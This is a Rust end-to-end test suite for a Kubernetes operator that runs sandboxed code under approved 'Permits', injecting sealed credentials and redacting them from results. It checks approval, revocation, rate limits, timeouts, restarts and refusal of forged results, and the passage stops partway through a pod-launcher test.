//! End to end on a real kube-apiserver: the operator (Permit and Execution controllers, the
//! process launcher, the result callback) + the real runner binary + a local HTTPS upstream
//! that records what it received + the kubectl plugin for the owner's approval.

use std::path::PathBuf;
use std::time::Duration;

use k8s_openapi::api::core::v1::Secret;
use kube::api::{Api, PostParams};
use oauth3_crds::{
    Execution, ExecutionPhase, ExecutionSpec, ExecutionStatus, Permit, PermitPhase, PermitSpec,
};
use oauth3_operator::launcher::pod::PodQuoteProvider as QuoteProviderEndpoint;
use oauth3_operator::launcher::process::ProcessLauncherConfig;
use oauth3_test_support::{PermitFixture, Upstream, wait_until};
use oauth3_tests::operator::{InProcessOperator, Launcher};
use oauth3_tests::{
    apply_dev_sealed_secret, callback_certificate, client_or_skip, ensure_runtime_class, namespace,
    post_json, workspace_binary,
};
use serde_json::{Value, json};

const SECRET: &str = "sk-e2e-operator-91c2";
/// A digits-only secret (a PIN), the kind an upstream may hand back as a JSON number.
const PIN: &str = "48213597";
const DEV_KEY: [u8; 32] = [3u8; 32];
/// How long an Execution may take to reach what a test waits for.
const WAIT: Duration = Duration::from_secs(60);

/// The in-process operator with the process launcher.
struct Operator;

impl Operator {
    async fn start(
        client: &kube::Client,
        ns: &str,
        listener: tokio::net::TcpListener,
        launcher: ProcessLauncherConfig,
        grace: Duration,
    ) -> InProcessOperator {
        Self::start_with_ttl(
            client,
            ns,
            listener,
            launcher,
            grace,
            Duration::from_secs(3600),
        )
        .await
    }

    async fn start_with_ttl(
        client: &kube::Client,
        ns: &str,
        listener: tokio::net::TcpListener,
        launcher: ProcessLauncherConfig,
        grace: Duration,
        ttl: Duration,
    ) -> InProcessOperator {
        InProcessOperator::start(
            client,
            ns,
            listener,
            Launcher::Process(launcher),
            grace,
            ttl,
        )
    }
}

struct Env {
    client: kube::Client,
    ns: String,
    up: Upstream,
    dir: PathBuf,
}

impl Env {
    async fn new(tag: &str) -> Option<Env> {
        let client = client_or_skip().await?;
        let ns = namespace(&client, tag).await;
        let up = Upstream::start().await;
        let dir = std::env::temp_dir().join(format!("oauth3-e2e-{ns}"));
        std::fs::create_dir_all(&dir).expect("dir");
        std::fs::write(dir.join("dev.key"), hex::encode(DEV_KEY)).expect("key");
        std::fs::write(dir.join("ca.pem"), &up.ca_pem).expect("ca");
        // The owner seals the secret to the enclave key; only the runner can open it.
        apply_dev_sealed_secret(&client, &ns, "api-token", "API_TOKEN", SECRET, DEV_KEY).await;
        Some(Env {
            client,
            ns,
            up,
            dir,
        })
    }

    fn runner(&self) -> ProcessLauncherConfig {
        oauth3_tests::operator::dev_runner(&self.dir)
    }

    async fn permit(&self, name: &str) {
        self.permit_with(name, json!({})).await;
    }

    /// The e2e Permit, its one capability (`api`) extended with `capability` fields.
    async fn permit_with(&self, name: &str, capability: Value) {
        let permit = PermitFixture::api(&format!("{}/v1", self.up.origin()))
            .with(json!({"paths": ["/items", "/echo-auth"]}))
            .secret("API_TOKEN")
            .with(capability)
            .spec_fields(json!({"description": "e2e", "validFor": "1h"}))
            .permit(name);
        self.create_permit(permit).await;
    }

    /// Creates Permit `name` with this spec.
    async fn permit_spec(&self, name: &str, spec: Value) {
        let spec: PermitSpec = serde_json::from_value(spec).expect("spec");
        self.create_permit(Permit::new(name, spec)).await;
    }

    async fn create_permit(&self, permit: Permit) {
        Api::<Permit>::namespaced(self.client.clone(), &self.ns)
            .create(&PostParams::default(), &permit)
            .await
            .expect("permit");
    }

    /// Runs Execution `name` (`return 1`, `timeout` s) under an approved Permit `issues` on an
    /// operator (deadline grace `grace`) whose runner is a shell script running `body` (it gets
    /// the bundle on stdin); returns the Execution's final status.
    async fn run_on_fake_runner(
        &self,
        body: &str,
        grace: Duration,
        name: &str,
        timeout: i32,
    ) -> ExecutionStatus {
        let script = self.dir.join(format!("{name}.sh"));
        std::fs::write(&script, format!("#!/bin/sh\n{body}\n")).expect("script");
        std::process::Command::new("chmod")
            .arg("+x")
            .arg(&script)
            .status()
            .expect("chmod");
        let launcher = ProcessLauncherConfig {
            binary: script,
            extra_args: vec![],
            attestation: QuoteProviderEndpoint::None,
        };
        let op = Operator::start(&self.client, &self.ns, listener().await, launcher, grace).await;
        self.approved_permit("issues").await;
        self.execution(name, "issues", "return 1", timeout).await;
        let done = self.wait_exec(name, "finished", finished).await;
        op.stop().await;
        done.status.expect("status")
    }

    /// Creates the Permit and approves it with the plugin binary, as its owner would.
    async fn approved_permit(&self, name: &str) {
        self.permit(name).await;
        self.approve(name).await;
    }

    /// Approves the Permit with the plugin binary, as its owner would.
    async fn approve(&self, name: &str) {
        self.wait_permit(name, PermitPhase::Pending).await;
        let out = self.plugin(&["approve", name]);
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        self.wait_permit(name, PermitPhase::Approved).await;
    }

    /// Starts an operator with the real runner and deadline grace `grace` on a fresh loopback
    /// callback address; returns it with the address, for [`Env::restart`].
    async fn operator_at(&self, grace: Duration) -> (InProcessOperator, std::net::SocketAddr) {
        let l = listener().await;
        let addr = l.local_addr().expect("addr");
        (
            Operator::start(&self.client, &self.ns, l, self.runner(), grace).await,
            addr,
        )
    }

    /// Stops `op`, waits `away`, and starts a new operator on the same callback address (as a
    /// restarted Pod behind the same Service).
    async fn restart(
        &self,
        op: InProcessOperator,
        addr: std::net::SocketAddr,
        away: Duration,
        grace: Duration,
    ) -> InProcessOperator {
        op.stop().await;
        tokio::time::sleep(away).await;
        let again = tokio::net::TcpListener::bind(addr)
            .await
            .expect("rebind callback address");
        Operator::start(&self.client, &self.ns, again, self.runner(), grace).await
    }

    /// Starts an operator with the real runner and the default grace.
    async fn operator(&self) -> InProcessOperator {
        Operator::start(
            &self.client,
            &self.ns,
            listener().await,
            self.runner(),
            Duration::from_secs(30),
        )
        .await
    }

    fn plugin(&self, args: &[&str]) -> std::process::Output {
        oauth3_tests::plugin(&self.ns, args)
    }

    async fn execution(&self, name: &str, permit: &str, code: &str, timeout: i32) {
        let spec: ExecutionSpec = serde_json::from_value(json!({
            "permitRef": permit, "code": code, "timeoutSeconds": timeout
        }))
        .expect("spec");
        Api::<Execution>::namespaced(self.client.clone(), &self.ns)
            .create(&PostParams::default(), &Execution::new(name, spec))
            .await
            .expect("execution");
    }

    async fn wait_exec(
        &self,
        name: &str,
        what: &str,
        pred: impl Fn(&Execution) -> bool,
    ) -> Execution {
        let api: Api<Execution> = Api::namespaced(self.client.clone(), &self.ns);
        wait_until(&format!("Execution {name} {what}"), WAIT, || async {
            match api.get(name).await {
                Ok(e) if pred(&e) => Ok(e),
                Ok(e) => Err(format!("{:?}", e.status)),
                Err(e) => Err(e.to_string()),
            }
        })
        .await
    }

    async fn wait_permit(&self, name: &str, phase: PermitPhase) -> Permit {
        self.wait_permit_where(name, &format!("{phase:?}"), |p| {
            p.status.as_ref().and_then(|s| s.phase) == Some(phase)
        })
        .await
    }

    async fn wait_permit_where(
        &self,
        name: &str,
        what: &str,
        pred: impl Fn(&Permit) -> bool,
    ) -> Permit {
        let api: Api<Permit> = Api::namespaced(self.client.clone(), &self.ns);
        wait_until(&format!("Permit {name} {what}"), WAIT / 2, || async {
            match api.get(name).await {
                Ok(p) if pred(&p) => Ok(p),
                Ok(p) => Err(format!("{:?}", p.status)),
                Err(e) => Err(e.to_string()),
            }
        })
        .await
    }
}

fn phase(e: &Execution) -> Option<ExecutionPhase> {
    e.status.as_ref().and_then(|s| s.phase)
}

fn finished(e: &Execution) -> bool {
    phase(e).is_some_and(ExecutionPhase::is_terminal)
}

async fn listener() -> tokio::net::TcpListener {
    tokio::net::TcpListener::bind("127.0.0.1:0")
        .await
        .expect("bind")
}

#[tokio::test]
async fn an_approved_permit_runs_code_with_the_injected_credential_end_to_end() {
    let Some(env) = Env::new("e2e-flow").await else {
        return;
    };
    let op = env.operator().await;
    env.approved_permit("issues").await;

    let code = r#"
        const items = await api('GET', '/items');
        const echoed = await api('GET', '/echo-auth');
        console.log('upstream saw', JSON.stringify(echoed));
        let denied = null;
        try { await api('DELETE', '/items'); } catch (e) { denied = e.message; }
        return {items, denied};
    "#;
    env.execution("run-1", "issues", code, 20).await;
    let done = env.wait_exec("run-1", "finished", finished).await;
    let status = done.status.clone().expect("status");
    assert_eq!(status.phase, Some(ExecutionPhase::Succeeded), "{status:?}");

    // The upstream saw exactly the two permitted requests, each with the unsealed credential.
    let reqs = env.up.requests();
    let paths: Vec<_> = reqs.iter().map(|r| r.path_and_query.as_str()).collect();
    assert_eq!(paths, ["/v1/items", "/v1/echo-auth"]);
    for r in &reqs {
        assert_eq!(
            r.header_values("authorization"),
            [format!("Bearer {SECRET}").as_str()]
        );
    }
    // The result, the call log and the redacted output are in status.
    let result = status.result.clone().expect("result");
    assert_eq!(result["items"]["path"], "/v1/items");
    assert!(
        result["denied"]
            .as_str()
            .unwrap_or("")
            .contains("method DELETE not allowed for api"),
        "{result}"
    );
    let decisions: Vec<_> = status
        .calls
        .iter()
        .map(|c| format!("{:?}", c.decision))
        .collect();
    assert_eq!(decisions, ["Allowed", "Allowed", "Denied"]);
    assert!(
        status
            .stdout
            .as_deref()
            .unwrap_or("")
            .contains("[REDACTED]")
    );
    let everything = serde_json::to_string(&done).expect("json");
    assert!(
        !everything.contains(SECRET),
        "the secret must not reach the Execution object"
    );
    assert!(status.launch.is_some() && status.completion_time.is_some());

    // Usage is counted on the Permit (written in batches, so shortly after the result), and
    // the plugin shows the call log.
    let counted = |p: &Permit| {
        p.status
            .as_ref()
            .and_then(|s| s.usage.as_ref())
            .map(|u| (u.executions, u.calls))
    };
    let permit = env
        .wait_permit_where("issues", "counted", |p| counted(p).is_some_and(|c| c.1 > 0))
        .await;
    assert_eq!(counted(&permit), Some((1, 2)), "one run, two allowed calls");
    let logs = env.plugin(&["logs", "run-1"]);
    let text = String::from_utf8_lossy(&logs.stdout);
    assert!(
        text.contains("Succeeded") && text.contains("denied") && text.contains("/v1/items"),
        "{text}"
    );
    op.stop().await;
}

#[tokio::test]
async fn a_digits_only_secret_echoed_as_a_number_and_a_key_never_reaches_the_execution() {
    let Some(env) = Env::new("e2e-pin").await else {
        return;
    };
    apply_dev_sealed_secret(&env.client, &env.ns, "pin", "PIN", PIN, DEV_KEY).await;
    let op = env.operator().await;
    env.permit_spec(
        "bank",
        json!({
            "description": "e2e pin", "secrets": ["PIN"], "validFor": "1h",
            "capabilities": [{"name": "bank", "baseUrl": format!("{}/v1", env.up.origin()),
                "paths": ["/echo-number", "/echo-key"], "methods": ["GET"],
                "auth": {"queryParam": "key", "value": "{PIN}"}}]
        }),
    )
    .await;
    env.approve("bank").await;

    // The upstream answers {"pin": 48213597} and uses the PIN (and its hex) as object keys.
    let code = r#"
        const n = await bank('GET', '/echo-number');
        const k = await bank('GET', '/echo-key');
        console.log(JSON.stringify(n), n.pin, String(n.pin * 1));
        console.error(Object.keys(k).join(','), JSON.stringify(k));
        return {n, k, pin: n.pin, keys: Object.keys(k), again: {[String(n.pin)]: n.pin}};
    "#;
    env.execution("pin-echo", "bank", code, 20).await;
    let done = env.wait_exec("pin-echo", "finished", finished).await;
    let status = done.status.clone().expect("status");
    assert_eq!(status.phase, Some(ExecutionPhase::Succeeded), "{status:?}");

    // The upstream did get the PIN, both times.
    let reqs = env.up.requests();
    let sent: Vec<_> = reqs.iter().map(|r| r.path_and_query.as_str()).collect();
    assert_eq!(
        sent,
        [
            format!("/v1/echo-number?key={PIN}"),
            format!("/v1/echo-key?key={PIN}")
        ]
    );
    let result = status.result.clone().expect("result");
    assert_eq!(result["n"], json!({"pin": "[REDACTED]"}), "{result}");
    assert_eq!(result["pin"], "[REDACTED]", "{result}");
    assert_eq!(result["k"]["[REDACTED]"], true, "{result}");
    let hex_pin = hex::encode(PIN);
    let shown = [
        ("result", result.to_string()),
        ("stdout", status.stdout.clone().unwrap_or_default()),
        ("stderr", status.stderr.clone().unwrap_or_default()),
        ("calls", serde_json::to_string(&status.calls).expect("json")),
        ("the Execution", serde_json::to_string(&done).expect("json")),
    ];
    for (what, text) in shown {
        assert!(!text.contains(PIN), "{what} holds the PIN: {text}");
        assert!(
            !text.contains(&hex_pin),
            "{what} holds the PIN in hex: {text}"
        );
    }
    op.stop().await;
}

#[tokio::test]
async fn typescript_code_runs_with_its_types_removed_and_module_use_is_refused() {
    let Some(env) = Env::new("e2e-ts").await else {
        return;
    };
    let op = env.operator().await;
    env.approved_permit("issues").await;
    let code = r#"
        interface Item { path: string; method?: string }
        type Page<T> = { items: T[] };
        async function get<T>(path: string): Promise<T> {
            return (await api('GET', path)) as T;
        }
        const item = await get<Item>('/items');
        const page: Page<Item> = { items: [item] };
        console.log(`saw ${page.items.length} item(s)`);
        return { path: page.items[0]!.path, kinds: page.items.map((i: Item) => typeof i) };
    "#;
    let spec: ExecutionSpec = serde_json::from_value(json!({
        "permitRef": "issues", "code": code, "language": "typescript", "timeoutSeconds": 20
    }))
    .expect("spec");
    let api: Api<Execution> = Api::namespaced(env.client.clone(), &env.ns);
    api.create(&PostParams::default(), &Execution::new("ts-1", spec))
        .await
        .expect("execution");
    let done = env.wait_exec("ts-1", "finished", finished).await;
    let status = done.status.clone().expect("status");
    assert_eq!(status.phase, Some(ExecutionPhase::Succeeded), "{status:?}");
    let result = status.result.clone().expect("result");
    assert_eq!(result["path"], "/v1/items", "{result}");
    assert_eq!(result["kinds"], json!(["object"]));
    assert_eq!(
        status.code_digest.as_deref(),
        Some(oauth3_crds::code_digest_in(code, oauth3_crds::CodeLanguage::TypeScript).as_str()),
        "the digest is of the code as written, bound to its language"
    );
    assert_eq!(env.up.requests().len(), 1);

    // import/require fail with a clear error, and nothing reaches the upstream.
    let importing: ExecutionSpec = serde_json::from_value(json!({
        "permitRef": "issues", "language": "typescript", "timeoutSeconds": 20,
        "code": "import { Octokit } from 'npm:octokit';\nawait api('GET', '/items');"
    }))
    .expect("spec");
    api.create(&PostParams::default(), &Execution::new("ts-2", importing))
        .await
        .expect("execution");
    let refused = env.wait_exec("ts-2", "finished", finished).await;
    let status = refused.status.expect("status");
    assert_eq!(status.phase, Some(ExecutionPhase::Failed), "{status:?}");
    assert!(
        status
            .message
            .as_deref()
            .is_some_and(|m| m.contains("no module loader")),
        "{status:?}"
    );
    assert_eq!(env.up.requests().len(), 1, "the refused run sent nothing");

    // A language the schema does not know is refused naming the field.
    let bad = serde_json::from_value::<ExecutionSpec>(json!({
        "permitRef": "issues", "code": "return 1", "language": "python"
    }));
    assert!(bad.is_err());
    let raw =
        kube::api::DynamicObject::new("ts-3", &kube::api::ApiResource::erase::<Execution>(&()))
            .data(
                json!({"spec": {"permitRef": "issues", "code": "return 1", "language": "python"}}),
            );
    let dynamic: Api<kube::api::DynamicObject> = Api::namespaced_with(
        env.client.clone(),
        &env.ns,
        &kube::api::ApiResource::erase::<Execution>(&()),
    );
    let err = dynamic
        .create(&PostParams::default(), &raw)
        .await
        .expect_err("refused by the schema");
    assert!(err.to_string().contains("spec.language"), "{err}");
    op.stop().await;
}

#[tokio::test]
async fn an_execution_under_an_unapproved_permit_is_denied_and_never_runs() {
    let Some(env) = Env::new("e2e-denied").await else {
        return;
    };
    let op = env.operator().await;
    env.permit("issues").await;
    env.wait_permit("issues", PermitPhase::Pending).await;
    env.execution("sneaky", "issues", "return await api('GET', '/items')", 10)
        .await;
    env.execution("orphan", "no-such-permit", "return 1", 10)
        .await;
    let denied = env.wait_exec("sneaky", "finished", finished).await;
    let s = denied.status.expect("status");
    assert_eq!(s.phase, Some(ExecutionPhase::Denied));
    assert_eq!(s.reason.as_deref(), Some("PermitNotApproved"));
    assert!(s.launch.is_none(), "nothing was launched");
    let orphan = env
        .wait_exec("orphan", "finished", finished)
        .await
        .status
        .expect("status");
    assert_eq!(orphan.reason.as_deref(), Some("PermitNotFound"));
    assert!(
        orphan
            .message
            .unwrap_or_default()
            .contains("no-such-permit")
    );
    env.up
        .assert_nothing_received("no request may reach the upstream");
    op.stop().await;
}

/// A revocation applies to the very next launch, even one submitted the moment the owner
/// revokes: every launch reads the Permit from the API server (a quorum read, never the
/// operator's watch cache) before it takes the launch lock or creates anything, so the
/// Execution is Denied for the revocation and no request reaches the upstream.
#[tokio::test]
async fn a_revocation_refuses_the_very_next_execution_and_nothing_reaches_the_upstream() {
    let Some(env) = Env::new("e2e-revoked").await else {
        return;
    };
    let op = env.operator().await;
    env.approved_permit("issues").await;
    env.execution("before", "issues", "return await api('GET', '/items')", 20)
        .await;
    let before = env.wait_exec("before", "finished", finished).await;
    assert_eq!(phase(&before), Some(ExecutionPhase::Succeeded));
    env.up.assert_received(1, "the run before the revocation");

    let out = env.plugin(&["revoke", "issues"]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    env.execution("after", "issues", "return await api('GET', '/items')", 20)
        .await;
    let after = env.wait_exec("after", "finished", finished).await;
    let s = after.status.expect("status");
    assert_eq!(s.phase, Some(ExecutionPhase::Denied), "{s:?}");
    assert_eq!(s.reason.as_deref(), Some("PermitRevoked"), "{s:?}");
    env.up
        .assert_received(1, "nothing after the revocation reaches the upstream");
    op.stop().await;
}

#[tokio::test]
async fn a_missing_or_foreign_sealed_secret_is_refused_before_anything_runs() {
    let Some(env) = Env::new("e2e-unsealed").await else {
        return;
    };
    let secrets: Api<Secret> = Api::namespaced(env.client.clone(), &env.ns);
    secrets
        .delete("api-token", &Default::default())
        .await
        .expect("the owner never sealed it");
    let op = env.operator().await;
    env.approved_permit("issues").await;
    env.execution(
        "unsealed",
        "issues",
        "return await api('GET', '/items')",
        10,
    )
    .await;
    let missing = env
        .wait_exec("unsealed", "finished", finished)
        .await
        .status
        .expect("status");
    assert_eq!(missing.phase, Some(ExecutionPhase::Denied), "{missing:?}");
    assert_eq!(missing.reason.as_deref(), Some("SealedSecretMissing"));
    let message = missing.message.unwrap_or_default();
    assert!(
        message.contains("api-token") && message.contains("kubectl oauth3 seal API_TOKEN"),
        "{message}"
    );
    assert!(missing.launch.is_none(), "nothing was launched");
    // A plain Secret of the same name (anyone with Secret rights could make one) is not a
    // sealed one: refused the same way, and its value goes nowhere.
    let mut plain = Secret::default();
    plain.metadata.name = Some("api-token".into());
    plain.string_data = Some([("sealed".to_owned(), SECRET.to_owned())].into());
    secrets
        .create(&PostParams::default(), &plain)
        .await
        .expect("plain secret");
    env.execution("foreign", "issues", "return await api('GET', '/items')", 10)
        .await;
    let foreign = env
        .wait_exec("foreign", "finished", finished)
        .await
        .status
        .expect("status");
    assert_eq!(foreign.phase, Some(ExecutionPhase::Denied), "{foreign:?}");
    assert_eq!(foreign.reason.as_deref(), Some("SealedSecretMissing"));
    let text = serde_json::to_string(&foreign).expect("json");
    assert!(text.contains("is not of type oauth3.dev/sealed"), "{text}");
    assert!(!text.contains(SECRET), "the value never reaches status");
    env.up
        .assert_nothing_received("no request may reach the upstream");
    op.stop().await;
}

#[tokio::test]
async fn a_rate_limit_is_counted_across_executions_and_an_exhausted_permit_refuses() {
    let Some(env) = Env::new("e2e-rate").await else {
        return;
    };
    let op = env.operator().await;
    env.permit_with(
        "limited",
        json!({"rateLimit": {"requests": 1, "perSeconds": 3600}}),
    )
    .await;
    env.approve("limited").await;
    // The first run may call once: its second call is refused by the runner.
    let code = "await api('GET', '/items'); \
                try { await api('GET', '/items'); return 'twice'; } catch (e) { return 'once'; }";
    env.execution("first", "limited", code, 30).await;
    let first = env.wait_exec("first", "finished", finished).await;
    let status = first.status.expect("status");
    assert_eq!(status.phase, Some(ExecutionPhase::Succeeded), "{status:?}");
    assert_eq!(status.result, Some(json!("once")));
    // What it left is carried on the Permit (written by the usage ledger).
    env.wait_permit_where("limited", "budget carried", |p| {
        p.status
            .as_ref()
            .and_then(|s| s.usage.as_ref())
            .and_then(|u| u.rate_budget.get("api").copied())
            .is_some_and(|t| t < 1.0)
    })
    .await;

    // The next Execution has nothing left to call with: refused before anything starts.
    env.execution("second", "limited", code, 30).await;
    let second = env.wait_exec("second", "finished", finished).await;
    let status = second.status.expect("status");
    assert_eq!(status.phase, Some(ExecutionPhase::Denied), "{status:?}");
    assert_eq!(status.reason.as_deref(), Some("RateBudgetExhausted"));
    assert!(
        status
            .message
            .unwrap_or_default()
            .contains("next call is allowed in"),
    );
    assert!(status.launch.is_none(), "no runner was started");
    assert_eq!(
        env.up.requests().len(),
        1,
        "one upstream request in all: the limit holds across Executions"
    );
    op.stop().await;
}

#[tokio::test]
async fn a_runner_that_never_reports_ends_timed_out() {
    let Some(env) = Env::new("e2e-timeout").await else {
        return;
    };
    // A "runner" that hangs and never calls back.
    let done = env
        .run_on_fake_runner("sleep 30", Duration::from_secs(1), "hang", 1)
        .await;
    assert_eq!(done.phase, Some(ExecutionPhase::TimedOut));
    assert_eq!(done.reason.as_deref(), Some("DeadlineExceeded"));
}

#[tokio::test]
async fn a_runner_that_dies_without_reporting_ends_its_execution_at_once_and_runs_once() {
    let Some(env) = Env::new("e2e-died").await else {
        return;
    };
    // A "runner" that takes its bundle and dies; a generous deadline that must not be needed.
    let body = "cat > /dev/null; echo started >> \"$(dirname \"$0\")/starts\"; exit 3";
    let done = env
        .run_on_fake_runner(body, Duration::from_secs(300), "died", 300)
        .await;
    assert_eq!(done.phase, Some(ExecutionPhase::Failed), "{done:?}");
    assert_eq!(done.reason.as_deref(), Some("RunnerExited"));
    let message = done.message.unwrap_or_default();
    assert!(
        message.contains("exit status: 3") && message.contains("without reporting a result"),
        "{message}"
    );
    // Ended, not restarted: the runner was started exactly once.
    tokio::time::sleep(Duration::from_secs(1)).await;
    let starts = std::fs::read_to_string(env.dir.join("starts")).unwrap_or_default();
    assert_eq!(starts.lines().count(), 1, "started once: {starts:?}");
    assert!(env.up.requests().is_empty());
}

#[tokio::test]
async fn an_operator_restart_mid_run_neither_loses_nor_duplicates_it() {
    let Some(env) = Env::new("e2e-restart").await else {
        return;
    };
    let grace = Duration::from_secs(30);
    let (op, addr) = env.operator_at(grace).await;
    env.approved_permit("issues").await;
    // Busy for three seconds, then one call: the operator restarts in between.
    let code = "const end = Date.now() + 3000; while (Date.now() < end) {} return await api('GET', '/items');";
    env.execution("slow", "issues", code, 30).await;
    let running = env
        .wait_exec("slow", "Running", |e| {
            phase(e) == Some(ExecutionPhase::Running)
        })
        .await;
    let launched_at = running
        .status
        .and_then(|s| s.launch)
        .expect("launch")
        .launched_at;
    // A new operator instance on the same callback address picks up where the old one left.
    let op = env.restart(op, addr, Duration::ZERO, grace).await;
    let done = env
        .wait_exec("slow", "finished", finished)
        .await
        .status
        .expect("status");
    assert_eq!(done.phase, Some(ExecutionPhase::Succeeded), "{done:?}");
    assert_eq!(
        done.launch.expect("launch").launched_at,
        launched_at,
        "launched exactly once"
    );
    assert_eq!(
        env.up.requests().len(),
        1,
        "the code ran once: one upstream request"
    );
    let permit = env
        .wait_permit_where("issues", "counted", |p| {
            p.status.as_ref().and_then(|s| s.usage.as_ref()).is_some()
        })
        .await;
    assert_eq!(
        permit.status.and_then(|s| s.usage).map(|u| u.executions),
        Some(1),
        "counted once, although two operators saw the Execution"
    );
    op.stop().await;
}

/// The operator is away for 12 s (longer than the few quick retries a runner used to make)
/// just when the runner posts its result: the runner keeps offering it until the operator is
/// back, well inside the deadline, and the Execution succeeds with its one call counted.
#[tokio::test]
async fn a_result_survives_an_operator_outage_shorter_than_the_deadline() {
    let Some(env) = Env::new("e2e-outage").await else {
        return;
    };
    let grace = Duration::from_secs(30);
    let (op, addr) = env.operator_at(grace).await;
    env.approved_permit("issues").await;
    let code = "const end = Date.now() + 2000; while (Date.now() < end) {} return await api('GET', '/items');";
    env.execution("outage", "issues", code, 30).await;
    env.wait_exec("outage", "Running", |e| {
        phase(e) == Some(ExecutionPhase::Running)
    })
    .await;
    let op = env.restart(op, addr, Duration::from_secs(12), grace).await;
    let done = env
        .wait_exec("outage", "finished", finished)
        .await
        .status
        .expect("status");
    assert_eq!(done.phase, Some(ExecutionPhase::Succeeded), "{done:?}");
    assert_eq!(env.up.requests().len(), 1, "one upstream call");
    let permit = env
        .wait_permit_where("issues", "calls counted", |p| {
            p.status
                .as_ref()
                .and_then(|s| s.usage.as_ref())
                .is_some_and(|u| u.calls == 1)
        })
        .await;
    assert_eq!(
        permit.status.and_then(|s| s.usage).map(|u| u.calls),
        Some(1)
    );
    op.stop().await;
}

/// The operator is away past the deadline: it ends the Execution `TimedOut` when it is back,
/// but the result the runner is still offering arrives and its call, which did happen, is
/// counted in the Permit's usage and taken off its rate budget; the phase stays `TimedOut` and
/// a replay of the late result is not counted twice.
#[tokio::test]
async fn a_result_that_arrives_after_the_deadline_is_still_counted() {
    let Some(env) = Env::new("e2e-late").await else {
        return;
    };
    let grace = Duration::from_secs(1);
    let (op, addr) = env.operator_at(grace).await;
    env.permit_with(
        "limited",
        json!({"rateLimit": {"requests": 10, "perSeconds": 3600}}),
    )
    .await;
    env.approve("limited").await;
    let code = "const end = Date.now() + 1500; while (Date.now() < end) {} return await api('GET', '/items');";
    env.execution("late", "limited", code, 3).await;
    env.wait_exec("late", "Running", |e| {
        phase(e) == Some(ExecutionPhase::Running)
    })
    .await;
    // Past the deadline (3 s + 1 s grace) but inside the runner's late window.
    let op = env.restart(op, addr, Duration::from_secs(8), grace).await;
    let late = env
        .wait_exec("late", "TimedOut with the late result", |e| {
            e.status.as_ref().is_some_and(|s| {
                s.phase == Some(ExecutionPhase::TimedOut)
                    && s.conditions.iter().any(|c| c.type_ == "LateResult")
            })
        })
        .await
        .status
        .expect("status");
    assert_eq!(late.reason.as_deref(), Some("DeadlineExceeded"), "{late:?}");
    assert_eq!(late.calls.len(), 1, "the call log of what happened is kept");
    assert_eq!(env.up.requests().len(), 1, "the call did happen");
    let permit = env
        .wait_permit_where("limited", "the late call counted", |p| {
            p.status
                .as_ref()
                .and_then(|s| s.usage.as_ref())
                .is_some_and(|u| u.calls == 1)
        })
        .await;
    let usage = permit.status.and_then(|s| s.usage).expect("usage");
    assert_eq!(
        usage.rate_budget.get("api").copied(),
        Some(9.0),
        "the late call came off the rate budget: {usage:?}"
    );
    op.stop().await;
}

/// What an operator killed between recording a result and writing its Permit's usage leaves
/// behind: a finished Execution whose calls are recorded with `usageCounted: false`. The next
/// operator counts them (calls and rate budget) and marks the Execution; one more restart does
/// not count them again.
#[tokio::test]
async fn calls_recorded_before_a_kill_are_counted_by_the_next_operator_once() {
    let Some(env) = Env::new("e2e-recount").await else {
        return;
    };
    env.permit_with(
        "limited",
        json!({"rateLimit": {"requests": 10, "perSeconds": 3600}}),
    )
    .await;
    env.execution("killed", "limited", "return 1", 10).await;
    let execs: Api<Execution> = Api::namespaced(env.client.clone(), &env.ns);
    let call = |decision: &str| {
        json!({"capability": "api", "method": "GET", "url": "https://x/v1/items",
               "decision": decision, "durationMs": 1})
    };
    let status = json!({"status": {
        "phase": "Succeeded", "reason": "Succeeded", "message": "the code returned",
        "calls": [call("allowed"), call("allowed"), call("denied")],
        "usageCounted": false
    }});
    execs
        .patch_status(
            "killed",
            &kube::api::PatchParams::default(),
            &kube::api::Patch::Merge(&status),
        )
        .await
        .expect("recording the result as a killed operator left it");
    for round in 0..2 {
        let op = env.operator().await;
        let permit = env
            .wait_permit_where("limited", "the recorded calls counted", |p| {
                p.status
                    .as_ref()
                    .and_then(|s| s.usage.as_ref())
                    .is_some_and(|u| u.calls >= 2)
            })
            .await;
        env.wait_exec("killed", "marked counted", |e| {
            e.status.as_ref().and_then(|s| s.usage_counted) == Some(true)
        })
        .await;
        // Give a second count every chance to happen before looking.
        tokio::time::sleep(Duration::from_secs(1)).await;
        op.stop().await;
        let usage = Api::<Permit>::namespaced(env.client.clone(), &env.ns)
            .get("limited")
            .await
            .expect("permit")
            .status
            .and_then(|s| s.usage)
            .expect("usage");
        assert_eq!(usage.calls, 2, "round {round}: counted once: {usage:?}");
        assert_eq!(
            usage.rate_budget.get("api").copied(),
            Some(8.0),
            "round {round}: two allowed calls off the budget: {usage:?}"
        );
        drop(permit);
    }
}

#[tokio::test]
async fn a_replayed_or_forged_result_is_refused() {
    let Some(env) = Env::new("e2e-replay").await else {
        return;
    };
    let l = listener().await;
    let base = format!("http://{}", l.local_addr().expect("addr"));
    let op = Operator::start(
        &env.client,
        &env.ns,
        l,
        env.runner(),
        Duration::from_secs(30),
    )
    .await;
    env.approved_permit("issues").await;
    env.execution("once", "issues", "return 7", 10).await;
    let done = env.wait_exec("once", "finished", finished).await;
    assert_eq!(phase(&done), Some(ExecutionPhase::Succeeded));
    let uid = done.metadata.uid.clone().expect("uid");
    let forged: Value = json!({"execution": {"namespace": env.ns, "name": "once", "uid": uid},
        "phase": "Succeeded", "result": 666, "stdout": "", "stderr": "", "calls": [],
        "durationMs": 1, "codeDigest": "x", "permitDigest": "y", "rateBudget": {},
        "attestation": {"kind": "none"}, "statementDigest": "z"});
    let http = post_json(
        &format!("{base}/v1/results/{}/once", env.ns),
        "forged-token",
        &forged,
    )
    .await;
    assert_eq!(
        http, 401,
        "a forged token is refused before anything about the run is told"
    );
    let http = post_json(&format!("{base}/v1/results/{}/once", env.ns), "", &forged).await;
    assert_eq!(http, 401, "no token, no result");
    let after = Api::<Execution>::namespaced(env.client.clone(), &env.ns)
        .get("once")
        .await
        .expect("read");
    assert_eq!(
        after.status.and_then(|s| s.result),
        Some(json!(7)),
        "the recorded result is unchanged"
    );
    op.stop().await;
}

#[tokio::test]
async fn the_pod_launcher_creates_the_sandbox_once_and_cleans_up_after_the_result() {
    use k8s_openapi::api::core::v1::Pod;
    use k8s_openapi::api::networking::v1::NetworkPolicy;
    let Some(env) = Env::new("e2e-pod").await else {
        return;
    };
    ensure_runtime_class(&env.client, "kata-qemu-tdx").await;
    let l = listener().await;
    let base = format!("http://{}", l.local_addr().expect("addr"));
